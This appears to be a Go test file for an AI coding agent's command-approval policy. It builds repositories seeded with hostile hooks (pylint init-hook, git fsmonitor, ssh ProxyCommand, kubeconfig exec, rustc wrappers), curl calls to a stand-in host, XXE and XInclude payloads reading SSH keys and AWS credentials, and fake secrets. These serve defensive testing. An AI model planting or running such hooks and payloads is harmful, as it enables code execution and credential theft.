package policy_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"
)

// The nineteenth held-out batch (testdata/heldout19.txt): the shares of
// its harmless commands (read) that must run unasked in suggest and
// auto-edit mode, and of its edits that auto-edit must run; a little under
// what the default reaches, so that a change that loses a class of them
// fails.
const (
	heldOut19Reads = 0.60
	heldOut19Edits = 0.05
)

// heldOut19Worlds names the repository under HOME/ws each section of the
// batch is judged in, in the order of the sections' marks.
var heldOut19Worlds = []struct{ mark, dir string }{
	{"# Python (api)", "api"},
	{"# TypeScript (web)", "web"},
	{"# Go (gosvc)", "gosvc"},
	{"# Rust (crate)", "crate"},
	{"# Java (jvm)", "jvm"},
	{"# Ops (ops)", "ops"},
	{"# Git (mono)", "mono"},
}

// heldOut19Run is what the planted programs of the nineteenth batch's
// scratch do: call out, as a hostile repository's would.
const heldOut19Run = "#!/bin/sh\ncurl -s https://x.example/$(hostname)\n"

// heldOut19Files is laid over heldOut17Files: the Java service, and in
// each world the files a hostile repository carries that a reader loads
// and runs (a json.py at the top of the Python tree, .pylintrc's
// init-hook, flake8's local plugins, a committed .venv, .yarnrc.yml's
// yarnPath, a .ripgreprc with a preprocessor, a go.mod pinning a
// toolchain, rust-toolchain.toml's path and a rustc wrapper, .mvn/jvm.config's
// agent, a kubeconfig's exec plugin, an AWS credential_process, an
// ssh_config's ProxyCommand and Match exec, a terraform provider, a bare
// repository whose config sets core.fsmonitor and diff.external, git
// configs under scripts/), terraform state and a Spring profile with a
// password, and a ~/.gitconfig that adds the store credential helper and
// an extraheader (as CI checkouts leave) to the insteadOf token.
var heldOut19Files = map[string]string{
	// Python
	"ws/api/json.py":              "import os\nos.system('curl -s https://x.example')\n",
	"ws/api/.pylintrc":            "[MAIN]\ninit-hook='import os; os.system(\"sh tools/x.sh\")'\n",
	"ws/api/setup.cfg":            "[flake8:local-plugins]\nextension =\n    X1 = tools.flake8_x:Plugin\npaths = .\n",
	"ws/api/tools/flake8_x.py":    "import os\nos.system('id')\n\n\nclass Plugin:\n    pass\n",
	"ws/api/tools/clean.sed":      "1e curl -s https://x.example\ns/[[:space:]]*$//\n",
	"ws/api/tools/report.awk":     "BEGIN { system(\"curl -s https://x.example\") }\n/ERROR/ { n++ }\nEND { print n }\n",
	"ws/api/tools/trace.pm":       "package tools::trace;\nsystem('id');\n1;\n",
	"ws/api/tools/x.sh":           heldOut19Run,
	"ws/api/.venv/bin/python":     heldOut19Run,
	"ws/api/scripts/hooks/.keep":  "",
	"ws/api/docs/guide-extra.txt": "More.\n",

	// TypeScript
	"ws/web/.yarnrc.yml":                      "yarnPath: .yarn/releases/yarn-4.1.0.cjs\nnodeLinker: node-modules\n",
	"ws/web/.yarn/releases/yarn-4.1.0.cjs":    "require('child_process').execSync('curl -s https://x.example');\n",
	"ws/web/.ripgreprc":                       "--pre=scripts/check-env.mjs\n--smart-case\n",
	"ws/web/tools/preload.cjs":                "require('child_process').execSync('id');\n",
	"ws/web/tools/batrc":                      "--pager=\"sh -c 'curl -s https://x.example'\"\n",
	"ws/web/node_modules/.bin/tsc":            "#!/usr/bin/env node\nrequire('../typescript/bin/tsc');\n",
	"ws/web/node_modules/react/package.json":  "{\"name\": \"react\", \"version\": \"18.3.1\", \"main\": \"index.js\"}\n",
	"ws/web/node_modules/react/index.js":      "module.exports = { version: '18.3.1' };\n",
	"ws/web/node_modules/typescript/bin/tsc":  "#!/usr/bin/env node\n",
	"ws/web/node_modules/vite/dist/index.mjs": "export {};\n",

	// Go
	"ws/gosvc/tools/go.mod": "module github.com/acme/gosvc/tools\n\ngo 1.21\n\ntoolchain go1.99.1\n",
	"ws/gosvc/tools.mk":     "VERSION := $(shell git describe --tags)\nLDFLAGS := $(shell ./scripts/wrap.sh env)\nrelease:\n\tgo build -ldflags \"$(LDFLAGS)\" ./cmd/api\n",

	// Rust
	"ws/crate/xtask/Cargo.toml":            "[package]\nname = \"xtask\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
	"ws/crate/xtask/src/main.rs":           "fn main() {}\n",
	"ws/crate/xtask/rust-toolchain.toml":   "[toolchain]\npath = \"../tools/toolchain\"\n",
	"ws/crate/xtask/.cargo/config.toml":    "[build]\nrustc-wrapper = \"../tools/wrap.sh\"\n",
	"ws/crate/tools/toolchain/bin/cargo":   heldOut19Run,
	"ws/crate/tools/toolchain/bin/rustc":   heldOut19Run,
	"ws/crate/tools/toolchain/lib/.keep":   "",
	"ws/crate/target/release/.fingerprint": "",

	// Java
	"ws/jvm/pom.xml":         "<project xmlns=\"http://maven.apache.org/POM/4.0.0\">\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>com.acme</groupId>\n  <artifactId>svc</artifactId>\n  <version>1.3.0</version>\n  <dependencies>\n    <dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-web</artifactId></dependency>\n  </dependencies>\n</project>\n",
	"ws/jvm/mvnw":            "#!/bin/sh\n# Maven wrapper\nexec java -jar .mvn/wrapper/maven-wrapper.jar \"$@\"\n",
	"ws/jvm/.mvn/jvm.config": "-Xmx1g -javaagent:tools/agent.jar\n",
	"ws/jvm/.mvn/wrapper/maven-wrapper.properties": "distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.6/apache-maven-3.9.6-bin.zip\n",
	"ws/jvm/gradlew": "#!/bin/sh\nexec java -classpath gradle/wrapper/gradle-wrapper.jar org.gradle.wrapper.GradleWrapperMain \"$@\"\n",
	"ws/jvm/gradle/wrapper/gradle-wrapper.properties":       "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\n",
	"ws/jvm/src/main/java/com/acme/App.java":                "package com.acme;\n\n@SpringBootApplication\npublic class App {\n    @GetMapping(\"/health\")\n    public String health() { return \"ok\"; }\n}\n",
	"ws/jvm/src/main/resources/application.properties":      "server.port=8080\nspring.application.name=svc\n",
	"ws/jvm/src/main/resources/application-prod.properties": "spring.datasource.url=jdbc:postgresql://db.acme.internal/svc\nspring.datasource.username=svc\nspring.datasource.password=Jvm-Pr0d-S3cret-5511\n",
	"ws/jvm/src/main/resources/keystore.p12":                "0\x82\x0a\x1e\x02\x01\x030\x82\x09\xd8\x06\x09*\x86H\x86\xf7\x0d\x01\x07\x01",
	"ws/jvm/src/test/resources/data.xml":                    "<?xml version=\"1.0\"?>\n<orders><order id=\"1\"/></orders>\n",
	"ws/jvm/src/test/resources/xxe.xml":                     "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY k SYSTEM \"../../../../../.ssh/id_ed25519\">]>\n<r>&k;</r>\n",
	"ws/jvm/src/test/resources/inc.xml":                     "<?xml version=\"1.0\"?>\n<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"../../../../../.aws/credentials\" parse=\"text\"/></r>\n",
	"ws/jvm/tools/agent.jar":                                "PK\x03\x04",
	"ws/jvm/tools/args.txt":                                 "-javaagent:tools/agent.jar\n",
	"ws/jvm/tools/report.xsl":                               "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:exsl=\"http://exslt.org/common\" extension-element-prefixes=\"exsl\">\n<xsl:template match=\"/\"><exsl:document href=\"/tmp/report.sh\" method=\"text\">curl -s https://x.example</exsl:document></xsl:template>\n</xsl:stylesheet>\n",
	"ws/jvm/target/classes/com/acme/App.class":              "\xca\xfe\xba\xbe\x00\x00\x00\x41",
	"ws/jvm/.gitignore":                                     "*.log\n",

	// Ops
	"ws/ops/ci/kubeconfig":               "apiVersion: v1\nkind: Config\nclusters:\n- name: ci\n  cluster:\n    server: https://203.0.113.20:6443\ncontexts:\n- name: ci\n  context: {cluster: ci, user: ci}\ncurrent-context: ci\nusers:\n- name: ci\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: sh\n      args: [scripts/check.sh]\n",
	"ws/ops/ci/aws-config":               "[default]\nregion = eu-west-1\ncredential_process = sh scripts/check.sh\n",
	"ws/ops/ci/ssh_config":               "Host bastion\n  HostName 203.0.113.10\n  ProxyCommand sh scripts/check.sh %h\nMatch exec \"sh scripts/check.sh\"\n  User deploy\n",
	"ws/ops/ci/terraformrc":              "provider_installation {\n  dev_overrides {\n    \"hashicorp/aws\" = \"./scripts\"\n  }\n  direct {}\n}\n",
	"ws/ops/terraform/main.tf":           "resource \"aws_db_instance\" \"app\" {\n  engine = \"postgres\"\n}\n\noutput \"db_password\" {\n  value     = aws_db_instance.app.password\n  sensitive = true\n}\n",
	"ws/ops/terraform/terraform.tfstate": "{\"version\": 4, \"outputs\": {\"db_password\": {\"value\": \"Tf-State-S3cret-9021\", \"type\": \"string\", \"sensitive\": true}}, \"resources\": [{\"type\": \"aws_db_instance\", \"name\": \"app\"}]}\n",
	"ws/ops/terraform/.terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws_v5.0.0": heldOut19Run,
	"ws/ops/ansible.cfg":                      "[defaults]\ninventory = ansible/inventory.ini\nvault_password_file = scripts/vault-pass.sh\ncallback_plugins = ansible/plugins\ncallbacks_enabled = audit\n",
	"ws/ops/ansible/inventory.ini":            "[web]\nweb1 ansible_host=203.0.113.11\n",
	"ws/ops/ansible/site.yml":                 "- hosts: web\n  tasks:\n    - ping:\n",
	"ws/ops/ansible/plugins/audit.py":         "import os\nos.system('id')\n",
	"ws/ops/ansible/group_vars/all/vault.yml": "$ANSIBLE_VAULT;1.1;AES256\n6132383938\n",
	"ws/ops/scripts/vault-pass.sh":            heldOut19Run,

	// Git
	"ws/mono/test/fixtures/repo.git/HEAD":               "ref: refs/heads/main\n",
	"ws/mono/test/fixtures/repo.git/config":             "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ../../..\n\tfsmonitor = sh scripts/fsmonitor.sh\n[diff]\n\texternal = sh scripts/pager.sh\n",
	"ws/mono/test/fixtures/repo.git/description":        "fixture\n",
	"ws/mono/test/fixtures/repo.git/objects/info/.keep": "",
	"ws/mono/test/fixtures/repo.git/refs/heads/.keep":   "",
	"ws/mono/scripts/.gitconfig":                        "[core]\n\tfsmonitor = sh scripts/fsmonitor.sh\n",
	"ws/mono/scripts/git/config":                        "[core]\n\tfsmonitor = sh scripts/fsmonitor.sh\n",
	"ws/mono/scripts/hooks.hex":                         "23212f62696e2f73680a\n",

	// go's own defaults (GOROOT/go.env) may set GOTOOLCHAIN=local, as this
	// machine's does: the user's go env sets Go's usual auto, so a go.mod
	// that asks for a newer toolchain has go fetch and run it.
	".config/go/env": "GOPROXY=https://ci:Goproxy-S3cret-5150@goproxy.acme.internal,direct\nGOPRIVATE=github.com/acme/*\nGOTOOLCHAIN=auto\n",

	".gitconfig": "[user]\n\tname = Agent\n\temail = agent@example.com\n[credential]\n\thelper = store\n[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hwX1YzbnE4TG1YMnZUN3daNG5COWNZMWRGNmhKMHBTNWFFOHVRcg==\n[url \"https://x-access-token:" + heldOut17GitHubToken + "@github.com/acme-private/\"]\n\tinsteadOf = https://github.com/acme-private/\n",
}

// heldOut19Jar is the Java service's packaged jar: a Spring profile with
// a password among its members.
var heldOut19Jar = map[string]string{
	"META-INF/MANIFEST.MF":                         "Manifest-Version: 1.0\nMain-Class: com.acme.App\n",
	"BOOT-INF/classes/application-prod.properties": "spring.datasource.password=Jvm-Jar-S3cret-7730\n",
}

// heldOut19Scratch makes the nineteenth batch's home: heldOut17Scratch's
// with heldOut19Files laid over it, a repository for each of its worlds
// (the Java service's too), the jar, and the planted programs executable.
func heldOut19Scratch(t *testing.T) (home string, dirs map[int]string) {
	t.Helper()
	files := map[string]string{}
	for name, content := range heldOut17Files {
		files[name] = content
	}
	for name, content := range heldOut19Files {
		files[name] = content
	}
	home, dirs = worldsScratch(t, files, heldOut19Worlds)
	jar := filepath.Join(home, "ws/jvm/target/app.jar")
	writeArchive(t, jar+".zip", heldOut19Jar)
	if err := os.Rename(jar+".zip", jar); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"ws/jvm/mvnw", "ws/jvm/gradlew", "ws/api/.venv/bin/python", "ws/web/node_modules/.bin/tsc",
		"ws/crate/tools/toolchain/bin/cargo", "ws/crate/tools/toolchain/bin/rustc", "ws/ops/scripts/vault-pass.sh"} {
		if err := os.Chmod(filepath.Join(home, p), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return home, dirs
}

// TestHeldOut19 judges the nineteenth held-out batch as TestHeldOut17
// judges the seventeenth, each section in its own repository under HOME/ws
// (the root that repository).
func TestHeldOut19(t *testing.T) {
	judgeWorlds(t, heldOut19Worlds, heldOut19Scratch, heldOutBatch{file: "heldout19.txt", n: 19, ordinal: "nineteenth",
		reads: heldOut19Reads, edits: heldOut19Edits})
}

// TestNineteenthBatchClasses: the class the nineteenth batch found judged
// safe. A git command run in a git directory the working tree carries (a
// bare repository committed as plain files: HEAD, config, objects, refs)
// or below one uses that repository and its config, which a clone brings
// along: `git -C test/fixtures/repo.git status` ran its core.fsmonitor
// (run for real first, with the system git, when there is one). Each
// spelling that reaches it (-C, cd, a directory inside it, a link to one,
// --bare) is asked; git run at the repository's top, in a directory
// without HEAD beside objects and refs, in its own .git, or in a
// worktree still runs. And, asked for less: git config with a scope
// (--local, --system, --file) reads only that scope's files, following no
// include unless --includes, so a credential in ~/.gitconfig does not make
// `git config --local --list` print one.
func TestNineteenthBatchClasses(t *testing.T) {
	set := defaultSet(t)
	home := scratchHome(t)
	proj := filepath.Join(home, "proj")
	writeTree(t, home, map[string]string{
		"proj/README.md":                                 "# p\n",
		"proj/scripts/fsmonitor.sh":                      "#!/bin/sh\ntouch fsmonitor-ran\n",
		"proj/test/fixtures/repo.git/HEAD":               "ref: refs/heads/main\n",
		"proj/test/fixtures/repo.git/config":             "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ../../..\n\tfsmonitor = sh scripts/fsmonitor.sh\n[diff]\n\texternal = sh scripts/fsmonitor.sh\n",
		"proj/test/fixtures/repo.git/objects/info/.keep": "",
		"proj/test/fixtures/repo.git/refs/heads/.keep":   "",
		"proj/docs/store/objects/a.txt":                  "a\n",
		"proj/docs/store/refs/b.txt":                     "b\n",
		".gitconfig":                                     "[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hwX1YzbnE4TG1YMnZUN3daNG5COWNZMWRGNmhKMHBTNWFFOHVRcg==\n",
	})
	if err := os.Symlink("test/fixtures/repo.git/refs", filepath.Join(proj, "r")); err != nil {
		t.Fatal(err)
	}
	gitSetUp(t, proj, [][]string{
		{"init", "-q", "-b", "main"},
		{"add", "-A"},
		{"-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "-m", "init"},
		{"worktree", "add", "-q", ".wt", "-b", "wt"},
	})
	if git, err := exec.LookPath("git"); err == nil {
		for _, dir := range []string{"test/fixtures/repo.git", "r"} {
			mark := filepath.Join(proj, "fsmonitor-ran")
			os.Remove(mark)
			cmd := exec.Command(git, "-C", dir, "status")
			cmd.Dir = proj
			cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
			cmd.CombinedOutput()
			if _, err := os.Stat(mark); err != nil {
				t.Errorf("git -C %s status did not run the committed repository's core.fsmonitor", dir)
			}
			os.Remove(mark)
		}
	}
	judgeRuns(t, set, proj, map[string]bool{
		`git -C test/fixtures/repo.git status`:                false,
		`cd test/fixtures/repo.git && git diff --stat`:        false,
		`cd test/fixtures/repo.git/refs/heads && git log -1`:  false,
		`git -C test/fixtures/repo.git/objects log --oneline`: false,
		`git -C r log -1`: false,
		`git --bare -C test/fixtures/repo.git log -1`:   false,
		`git --no-pager -C test/fixtures/repo.git show`: false,
		`git status`:                       true,
		`git log -1`:                       true,
		`git -C test/fixtures log -1`:      true,
		`cd docs/store && git status`:      true,
		`git -C .git log -1`:               true,
		`git -C .git/worktrees/.wt log -1`: true,
		`cd .wt && git status --short`:     true,
		// git config with a scope reads that scope's files alone, and
		// follows no include unless asked: the user's credentials are
		// printed by the listings that read ~/.gitconfig only.
		`git config --local --list`:                        true,
		`git config --list --show-origin --local`:          true,
		`git config --system --list`:                       true,
		`git config --list`:                                false,
		`git config --global --list`:                       false,
		`git config --local --includes --list`:             true, // the repository's config includes nothing
		`git config --file ~/.gitconfig --get-regexp http`: false,
		`git config --blob HEAD:README.md --list`:          false,
	})
}
